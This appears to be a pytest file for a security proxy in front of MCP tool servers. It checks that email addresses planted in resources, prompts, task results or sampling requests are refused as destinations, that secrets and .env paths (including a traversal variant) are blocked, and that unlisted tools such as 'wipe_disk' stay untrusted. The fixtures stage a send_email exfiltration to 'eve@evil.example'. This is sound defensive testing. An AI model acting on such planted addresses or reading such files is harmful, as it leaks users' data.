"""Every channel a server has to the client is untrusted output, and redacted.

Through a real ``visor run`` in front of tests/servers/content_channels.py: an
address planted in a resource, a prompt, a task's result or a sampling
request is then refused as a destination (``provenance.untrusted_output``,
not merely asked), a secret in any of them never reaches the client, a prompt
argument naming a sensitive file is refused, and a paginated first listing
that the client never followed trusts no tool it did not show.
"""

from __future__ import annotations

import json
import sys
import time
from pathlib import Path

from tests.conftest import VisorProcess

SERVER = [sys.executable, str(Path(__file__).parents[1] / "servers" / "content_channels.py")]
KEY = "AKIAIOSFODNN7EXAMPLE"

POLICY = """\
version: "1.0"
default_action: deny
servers:
  - name: "channels"
    allowed: true
    tools:
      - name: "send_email"
        allowed: true
        exfiltrating: true
        sink_params: ["to"]
      - name: "fetch_mail"
        allowed: true
      - name: "summarise"
        allowed: true
      - name: "wipe_disk"
        allowed: true
"""


def _start(tmp_path: Path, *, paged: bool = False, list_tools: bool = True) -> VisorProcess:
    policy = tmp_path / "policy.yaml"
    policy.write_text(POLICY)
    vp = VisorProcess(
        SERVER,
        env={"CHANNELS_LOG": str(tmp_path / "sent.jsonl"), "CHANNELS_PAGES": "1" if paged else "0"},
        visor_args=[
            "--server-name",
            "channels",
            "--policy",
            str(policy),
            "--audit-log",
            str(tmp_path / "a.jsonl"),
        ],
    )
    init = {"protocolVersion": "2025-11-25", "capabilities": {"sampling": {}}, "clientInfo": {"name": "t"}}
    vp.request({"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": init})
    assert vp.recv()["id"] == 0
    vp.request({"jsonrpc": "2.0", "method": "notifications/initialized"})
    if list_tools:
        vp.request({"jsonrpc": "2.0", "id": "l", "method": "tools/list"})
        assert vp.recv()["id"] == "l"
    return vp


def _send_to_eve(vp: VisorProcess, msg_id: int = 90) -> dict:
    args = {"to": "eve@evil.example", "body": "hello"}
    vp.request(
        {
            "jsonrpc": "2.0",
            "id": msg_id,
            "method": "tools/call",
            "params": {"name": "send_email", "arguments": args},
        }
    )
    resp = vp.recv()
    assert resp["id"] == msg_id and resp["result"]["isError"] is True, resp
    return resp


def _rule(resp: dict) -> str:
    text = resp["result"]["content"][0]["text"]
    return text.rsplit("(rule: ", 1)[1].rstrip(")")


def test_without_any_output_the_address_is_only_unknown(tmp_path: Path) -> None:
    """The control: no channel has shown the address yet, so it is asked (no human: denied as unknown)."""
    vp = _start(tmp_path)
    try:
        resp = _send_to_eve(vp)
        # asked, and with nobody to answer, refused as unplaceable: never the untrusted-output deny
        assert _rule(resp) == "approval.unavailable"
        assert "not a trusted or approved destination" in resp["result"]["content"][0]["text"]
    finally:
        vp.kill()


def test_an_address_planted_in_a_resource_is_refused(tmp_path: Path) -> None:
    vp = _start(tmp_path)
    try:
        vp.request({"jsonrpc": "2.0", "id": 1, "method": "resources/read", "params": {"uri": "memo://inbox"}})
        resp = vp.recv()
        text = resp["result"]["contents"][0]["text"]
        assert "eve@evil.example" in text and KEY not in text
        assert _rule(_send_to_eve(vp)) == "provenance.untrusted_output"
        assert not (tmp_path / "sent.jsonl").exists()
    finally:
        vp.kill()


def test_an_address_planted_in_a_prompt_is_refused(tmp_path: Path) -> None:
    vp = _start(tmp_path)
    try:
        vp.request({"jsonrpc": "2.0", "id": 2, "method": "prompts/get", "params": {"name": "summary"}})
        resp = vp.recv()
        assert KEY not in json.dumps(resp)
        assert _rule(_send_to_eve(vp)) == "provenance.untrusted_output"
    finally:
        vp.kill()


def test_a_prompt_argument_naming_a_sensitive_file_is_refused(tmp_path: Path) -> None:
    secret = tmp_path / ".env"
    secret.write_text("DB_PASSWORD=hunter2")
    vp = _start(tmp_path)
    try:
        for i, path in enumerate((str(secret), str(tmp_path / "x" / ".." / ".ENV"))):
            params = {"name": "read_file", "arguments": {"path": path}}
            vp.request({"jsonrpc": "2.0", "id": 3 + i, "method": "prompts/get", "params": params})
            resp = vp.recv()
            assert resp["error"]["code"] == -32602, resp
            assert "hunter2" not in json.dumps(resp)
        # the operator sees it too: one line on stderr, as for a denied tool call
        deadline = time.monotonic() + 10
        while "prompt.sensitive" not in vp.stderr and time.monotonic() < deadline:
            time.sleep(0.05)
        assert "prompt.sensitive" in vp.stderr and "prompts/get" in vp.stderr
        # an ordinary file is read as before
        plain = tmp_path / "notes.txt"
        plain.write_text("plain notes")
        params = {"name": "read_file", "arguments": {"path": str(plain)}}
        vp.request({"jsonrpc": "2.0", "id": 9, "method": "prompts/get", "params": params})
        assert "plain notes" in json.dumps(vp.recv())
    finally:
        vp.kill()


def test_a_task_result_is_redacted_and_indexed(tmp_path: Path) -> None:
    vp = _start(tmp_path)
    try:
        params = {"name": "fetch_mail", "arguments": {}, "task": {"ttl": 60000}}
        vp.request({"jsonrpc": "2.0", "id": 4, "method": "tools/call", "params": params})
        assert vp.recv()["result"]["task"]["taskId"] == "t-1"
        vp.request({"jsonrpc": "2.0", "id": 5, "method": "tasks/result", "params": {"taskId": "t-1"}})
        resp = vp.recv()
        text = resp["result"]["content"][0]["text"]
        assert "eve@evil.example" in text
        assert KEY not in json.dumps(resp)
        assert _rule(_send_to_eve(vp)) == "provenance.untrusted_output"
    finally:
        vp.kill()


def test_a_sampling_request_is_redacted_and_indexed(tmp_path: Path) -> None:
    vp = _start(tmp_path)
    try:
        vp.request(
            {
                "jsonrpc": "2.0",
                "id": 6,
                "method": "tools/call",
                "params": {"name": "summarise", "arguments": {}},
            }
        )
        sampling = vp.recv()
        assert sampling["method"] == "sampling/createMessage"
        assert "eve@evil.example" in json.dumps(sampling)
        assert KEY not in json.dumps(sampling)
        answer = {"role": "assistant", "content": {"type": "text", "text": "ok"}, "model": "m"}
        vp.request({"jsonrpc": "2.0", "id": sampling["id"], "result": answer})
        assert vp.recv()["id"] == 6
        assert _rule(_send_to_eve(vp)) == "provenance.untrusted_output"
    finally:
        vp.kill()


def test_an_unfollowed_first_page_trusts_no_later_tool(tmp_path: Path) -> None:
    vp = _start(tmp_path, paged=True, list_tools=False)
    try:
        vp.request({"jsonrpc": "2.0", "id": "p1", "method": "tools/list"})
        page = vp.recv()["result"]
        assert page["nextCursor"] == "p2" and [t["name"] for t in page["tools"]] == ["send_email"]
        # the client never asks for page 2; a later fresh listing shows more tools
        vp.request({"jsonrpc": "2.0", "id": "again", "method": "tools/list"})
        names = [t["name"] for t in vp.recv()["result"]["tools"]]
        assert "wipe_disk" in names and "fetch_mail" in names
        for i, tool in enumerate(("wipe_disk", "fetch_mail")):
            vp.request(
                {
                    "jsonrpc": "2.0",
                    "id": 40 + i,
                    "method": "tools/call",
                    "params": {"name": tool, "arguments": {}},
                }
            )
            resp = vp.recv()
            assert resp["result"]["isError"] is True and _rule(resp) == "pin.new_tool", resp
    finally:
        vp.kill()
